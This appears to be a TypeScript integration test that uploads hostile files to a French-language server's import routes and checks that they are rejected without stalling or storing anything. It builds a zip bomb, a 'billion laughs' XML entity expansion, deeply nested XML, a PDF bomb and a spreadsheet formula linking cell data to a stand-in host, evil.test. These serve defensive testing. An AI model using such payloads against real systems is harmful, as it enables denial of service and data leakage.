/**
 * Hostile files against a built server (src/server/lib/table-file-reader.ts, read in a worker
 * thread; docs/decisions/0034 « Imports »): four organisations each send a hostile file to
 * `/api/files/products/preview` three times in a row — the outside attack's 1,000,000
 * one-cell rows and its 100 MB cell, a zip bomb lying about its sizes, a CSV of 1,000,000
 * rows — and a fifth previews 10,000 valid rows, while `/api/health` is asked every 10 ms.
 * Every file answers 422 with its French message, health never stalls (bounds and why: the
 * reliability README), the main thread stays mostly idle, memory stays bounded. Then 14
 * hostile files on the six import routes: never a 5xx, nothing stored.
 */
import { readdirSync, readFileSync } from 'node:fs';
import { Worker } from 'node:worker_threads';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import '../test/provided.ts';
import { openDatabase, type Database } from '../db/database.ts';
import { ciiXml, pdfBomb } from '../test/invoices.ts';
import { bombXlsx, hugeCellXlsx, millionRowsCsv, millionRowsXlsx, workbook, zip } from '../test/hostile-tables.ts';
import { countOwnedRows } from './support/db-state.ts';
import { client, signUp, type Client } from './support/http.ts';
import { createScratchDatabase, type ScratchDatabase } from './support/postgres-cluster.ts';
import { freePort } from './support/ports.ts';
import { mb, report } from './support/report.ts';
import { newAuthSecret, startServer, type ServerProcess } from './support/server-process.ts';

let scratch: ScratchDatabase | undefined;
let server: ServerProcess | undefined;
let api: Client;
let database: Database | undefined;

beforeAll(async () => {
  scratch = await createScratchDatabase(inject('postgresAdminUrl'), {
    template: inject('postgresTemplate'),
    prefix: inject('postgresDbPrefix'),
  });
  const port = await freePort();
  const origin = `http://127.0.0.1:${port}`;
  const secret = newAuthSecret();
  server = await startServer({
    label: 'files',
    port,
    env: () => ({ DATABASE_URL: scratch!.url, BETTER_AUTH_SECRET: secret, PUBLIC_ORIGIN: origin }),
  });
  api = client(server.url, origin);
  database = await openDatabase({ databaseUrl: scratch.url, maxConnections: 2 });
});

afterAll(async () => {
  await database?.close();
  await server?.stop();
  await scratch?.drop();
});

const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';

/**
 * `/api/health` asked every 10 ms from a thread of its own, so this file's own work (sending
 * the files) never delays a probe: the times are the server's.
 */
function healthProbe(url: string) {
  const worker = new Worker(
    `const { parentPort, workerData } = require('node:worker_threads');
    let running = true;
    parentPort.on('message', () => (running = false));
    (async () => {
      const times = [];
      while (running) {
        const started = performance.now();
        const res = await fetch(workerData + '/api/health');
        await res.arrayBuffer();
        times.push(performance.now() - started);
        await new Promise((resolve) => setTimeout(resolve, 10));
      }
      parentPort.postMessage(times);
    })();`,
    { eval: true, workerData: url },
  );
  const times = new Promise<number[]>((resolve) => worker.once('message', resolve));
  return {
    async stopAfter(ms: number): Promise<number[]> {
      await new Promise((resolve) => setTimeout(resolve, ms));
      worker.postMessage('stop');
      const result = await times;
      await worker.terminate();
      return result;
    },
  };
}

/** A thread's /proc stat fields after its name (field 3 onwards). */
const threadStat = (pid: number, tid: number | string) =>
  readFileSync(`/proc/${pid}/task/${tid}/stat`, 'utf8').split(') ')[1]!.split(' ');

/** CPU time (user + system) of a process's main thread, the event loop's, in ms (/proc, 100 ticks a second). */
function mainThreadCpuMs(pid: number): number {
  const fields = threadStat(pid, pid);
  return (Number(fields[11]) + Number(fields[12])) * 10;
}

/** The nice value of each thread of a process now (src/server/lib/thread-priority.ts lowers the reading ones). */
function threadNices(pid: number): Map<string, number> {
  const nices = new Map<string, number>();
  for (const tid of readdirSync(`/proc/${pid}/task`))
    try {
      nices.set(tid, Number(threadStat(pid, tid)[16]));
    } catch {
      // The thread ended between the listing and the read.
    }
  return nices;
}

describe('hostile spreadsheets read off the event loop', () => {
  it('four hostile files, three times each, and a valid 10,000-row preview: 422 in French, /api/health never stalled, the event loop mostly idle, memory bounded', async (context) => {
    const files = [
      { label: '1 000 000 lignes XLSX', bytes: await millionRowsXlsx(), type: XLSX, message: /^Au plus 10/ },
      { label: 'cellule de 100 Mo', bytes: await hugeCellXlsx(100), type: XLSX, message: /^Fichier trop volumineux/ },
      { label: 'bombe zip', bytes: await bombXlsx(), type: XLSX, message: /^Fichier trop volumineux/ },
      { label: '1 000 000 lignes CSV', bytes: millionRowsCsv(), type: 'text/csv', message: /^Au plus 10/ },
    ];
    const owners = await Promise.all(files.map(() => signUp(api)));
    // A large valid import next to them: 10,000 products, previewed (read in the worker, judged on the loop).
    const large = await signUp(api);
    const largeCsv = `Nom;Énergie (kcal);Prix HT (€);Prix par\n${Array.from({ length: 10_000 }, (_, i) => `Produit ${i};${i % 900};${(i % 50) + 1},20;kg`).join('\n')}\n`;
    const rssBefore = server!.rssBytes();
    let rssPeak = rssBefore;
    // Sampled with the memory: the threads seen at nice 19 (the readers), and the main thread's nice.
    const nicedThreads = new Set<string>();
    const mainNices = new Set<number>();
    const rss = setInterval(() => {
      rssPeak = Math.max(rssPeak, server!.rssBytes());
      for (const [tid, nice] of threadNices(server!.pid)) {
        if (tid === String(server!.pid)) mainNices.add(nice);
        else if (nice === 19) nicedThreads.add(tid);
      }
    }, 20);
    const p99 = (times: number[]) => [...times].sort((x, y) => x - y)[Math.floor(times.length * 0.99)]!;
    // The same probe with no file read: what this (shared) machine gives anyway.
    const quietBefore = await healthProbe(server!.url).stopAfter(3_000);
    const probe = healthProbe(server!.url);
    const started = performance.now();
    const cpuBefore = mainThreadCpuMs(server!.pid);
    const largePreview = api('POST', '/api/files/products/preview', {
      cookie: large.cookie,
      body: largeCsv,
      headers: { 'content-type': 'text/csv' },
      timeoutMs: 60_000,
    });
    const answers = await Promise.all(
      files.map(async (file, i) => {
        const statuses = [];
        for (let round = 0; round < 3; round++) {
          const res = await api('POST', '/api/files/products/preview', {
            cookie: owners[i]!.cookie,
            body: file.bytes,
            headers: { 'content-type': file.type },
            timeoutMs: 60_000,
          });
          expect(res.body.error.message, file.label).toMatch(file.message);
          expect(res.text.length).toBeLessThan(1_000);
          statuses.push(res.status);
        }
        return statuses;
      }),
    );
    const largeAnswer = await largePreview;
    const elapsed = performance.now() - started;
    const loopCpu = mainThreadCpuMs(server!.pid) - cpuBefore;
    const health = await probe.stopAfter(0);
    clearInterval(rss);
    // As long again with no file read, right after: the shared machine's own load drifts over minutes.
    const quietAfter = await healthProbe(server!.url).stopAfter(Math.max(3_000, elapsed));
    const quiet = p99(quietBefore) > p99(quietAfter) ? quietBefore : quietAfter;
    expect(answers.flat()).toEqual(Array(12).fill(422));
    expect([largeAnswer.status, largeAnswer.body.total]).toEqual([200, 10_000]);
    report(
      context,
      `12 hostile files + 10 000-row preview in ${(elapsed / 1000).toFixed(1)} s; health p99 ${p99(health).toFixed(1)} ms, max ${Math.max(...health).toFixed(0)} ms over ${health.length} (quiet p99 ${p99(quiet).toFixed(1)} ms); event loop CPU ${loopCpu} ms (${((100 * loopCpu) / elapsed).toFixed(0)} %); RSS ${mb(rssBefore)} → peak ${mb(rssPeak)}`,
    );
    expect(health.length).toBeGreaterThan(20);
    // The reading threads ran at nice 19 (one per file read, two at a time), the event loop's did not.
    expect(nicedThreads.size).toBeGreaterThanOrEqual(2);
    expect([...mainNices]).toEqual([0]);
    // The files are read in threads: the event loop's own thread works a small part of the time
    // (reading them on it took 6.9 s for one file before).
    expect(loopCpu).toBeLessThan(elapsed * 0.25);
    // The bounds are against a stall: the attack's health checks waited 21 s; a second here would
    // mean the loop was blocked again. The 50 ms p99 target is a measurement, printed above and
    // kept in src/server/reliability/README.md « Why the health bounds », not a timed assertion
    // (docs/decisions/0015-tests-that-never-cry-wolf.md): on a quiet run it came to 84 ms with
    // the host's own p99 at 10.7 ms.
    expect(p99(health)).toBeLessThan(1_000);
    expect(Math.max(...health)).toBeLessThan(2_000);
    // Two files read at once, each thread's heap capped at 256 MB: far from the 1.43 GB of one file read whole.
    expect(rssPeak - rssBefore).toBeLessThan(600 * 1024 * 1024);
  });

  it('every import route, every hostile file: never a 5xx, a French message next to « file », nothing stored', async (context) => {
    const [owner] = [await signUp(api)];
    const row = (r: number, cells: string) => `<row r="${r}">${cells}</row>`;
    const inline = (ref: string, text: string) => `<c r="${ref}" t="inlineStr"><is><t>${text}</t></is></c>`;
    const bytes = (text: string) => new Uint8Array(Buffer.from(text));
    const files: { label: string; bytes: Uint8Array<ArrayBuffer>; type: string }[] = [
      { label: 'bombe zip', bytes: await bombXlsx(), type: XLSX },
      { label: '1 000 000 lignes XLSX', bytes: await millionRowsXlsx(), type: XLSX },
      { label: '1 000 000 lignes CSV', bytes: millionRowsCsv(), type: 'text/csv' },
      { label: 'cellule de 20 Mo', bytes: await hugeCellXlsx(20), type: XLSX },
      {
        label: 'XML imbriqué 200 000 niveaux dans une ligne',
        bytes: await workbook(() => [row(1, inline('A1', 'Nom')), `<row r="2">${'<x>'.repeat(200_000)}`], null),
        type: XLSX,
      },
      {
        label: 'XML imbriqué 100 000 niveaux (facture)',
        bytes: bytes(`<?xml version="1.0"?><Invoice>${'<a>'.repeat(100_000)}${'</a>'.repeat(100_000)}</Invoice>`),
        type: 'application/xml',
      },
      {
        label: 'milliard de rires (DOCTYPE)',
        bytes: bytes(
          `<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaaaaaaaa">${Array.from({ length: 9 }, (_, i) => `<!ENTITY ${'b'.repeat(i + 1)} "${'&a;'.repeat(10)}">`).join('')}]><Invoice>&bbbbbbbbb;</Invoice>`,
        ),
        type: 'application/xml',
      },
      {
        label: 'formules sans résultat',
        bytes: await workbook(
          () => [
            row(1, inline('A1', 'Nom') + inline('B1', 'recette') + inline('C1', 'date') + inline('D1', 'quantite')),
            row(2, '<c r="A2"><f>HYPERLINK("http://evil.test/?x="&amp;A1,"clic")</f></c><c r="B2"><f>1/0</f></c>'),
          ],
          null,
        ),
        type: XLSX,
      },
      {
        label: 'octets aléatoires en XLSX',
        bytes: new Uint8Array(crypto.getRandomValues(new Uint8Array(65_536))),
        type: XLSX,
      },
      {
        label: 'zip sans classeur',
        bytes: await zip([{ name: 'a.txt', chunks: () => ['bonjour'] }]),
        type: XLSX,
      },
      {
        label: 'UTF-16 sans BOM',
        bytes: new Uint8Array(Buffer.from('Nom;Prix\nSel;1\n', 'utf16le')),
        type: 'text/csv',
      },
      {
        label: 'NUL et octets invalides',
        bytes: new Uint8Array([0x4e, 0x6f, 0x6d, 0x0a, 0, 0xff, 0xfe, 0xc3, 0x28, 0x0a]),
        type: 'text/csv',
      },
      { label: 'PDF bombe', bytes: new Uint8Array(await pdfBomb(300)), type: 'application/pdf' },
      {
        label: 'facture tronquée',
        bytes: bytes(ciiXml({ number: 'T-1', date: '2026-03-01', lines: [] }).slice(0, 400)),
        type: 'application/xml',
      },
    ];
    const routes = [
      '/api/files/products/preview',
      '/api/files/products/import',
      '/api/files/recipes/preview',
      '/api/files/recipes/import',
      '/api/sales/import',
      '/api/purchases/invoices',
      '/api/purchases/price-lists?supplier=Grossiste',
    ];
    const before = await countOwnedRows(database!.db);
    const statuses = new Map<number, number>();
    for (const route of routes)
      for (const file of files) {
        const res = await api('POST', route, {
          cookie: owner.cookie,
          body: file.bytes,
          headers: { 'content-type': file.type },
          timeoutMs: 60_000,
        });
        statuses.set(res.status, (statuses.get(res.status) ?? 0) + 1);
        expect(res.status, `${route} ${file.label}: ${res.text.slice(0, 300)}`).toBe(422);
        expect(res.body.error.fields.file, `${route} ${file.label}`).toMatch(/^[A-ZÀ-Ü]/);
        expect(res.text.length).toBeLessThan(2_000);
      }
    expect(await countOwnedRows(database!.db)).toEqual(before);
    report(
      context,
      `${routes.length * files.length} hostile uploads: ${[...statuses].map(([s, n]) => `${n} × ${s}`).join(', ')}`,
    );
  });
});
